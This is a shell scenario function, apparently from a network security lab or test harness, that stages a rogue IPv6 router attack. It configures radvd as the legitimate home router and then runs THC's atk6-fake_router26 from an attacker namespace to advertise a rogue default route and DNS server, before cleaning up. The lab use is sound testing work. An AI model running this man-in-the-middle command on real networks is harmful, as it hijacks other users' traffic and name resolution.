# Attack: a rogue IPv6 router. The home router advertises the home's prefix with radvd
# (as a dual-stack home router does); the attacker then announces itself as the default
# router with its own prefix and DNS server, as SLAAC man-in-the-middle attacks do, with
# THC's atk6-fake_router26. Afterwards the devices' IPv6 addresses and routes from both
# advertisements are removed, so later scenarios run on the IPv4-only lab.
DESCRIPTION="radvd on the router advertises the home prefix; atk6-fake_router26 on the attacker"

scenario() {
    cat >"$STATE/radvd.conf" <<EOF
interface eth0 {
    AdvSendAdvert on;
    MinRtrAdvInterval 3;
    MaxRtrAdvInterval 4;
    AdvDefaultLifetime 1800;
    prefix 2001:db8:50:1::/64 { AdvOnLink on; AdvAutonomous on; };
    RDNSS 2001:db8:50:1::1 { };
};
EOF
    nsx router sysctl -qw net.ipv6.conf.all.forwarding=1
    bgjob router radvd radvd -n -m stderr -C "$STATE/radvd.conf" -p "$STATE/radvd.pid"
    # radvd's first advertisements go out within a few seconds.
    sleep 6
    nsx attacker atk6-fake_router26 -A 2001:db8:66::/64 -D 2001:db8:66::53 -n 3 -i 1 eth0 \
        >>"$STATE/log/scen-fake-router.log" 2>&1
    sleep 1
    stop_job radvd
    nsx router sysctl -qw net.ipv6.conf.all.forwarding=0
    local d
    for d in router "${DEVICES[@]}"; do
        nsx "$d" ip -6 addr flush dev eth0 scope global 2>/dev/null || true
        nsx "$d" ip -6 route flush proto ra 2>/dev/null || true
        nsx "$d" ip -6 route del default 2>/dev/null || true
    done
}
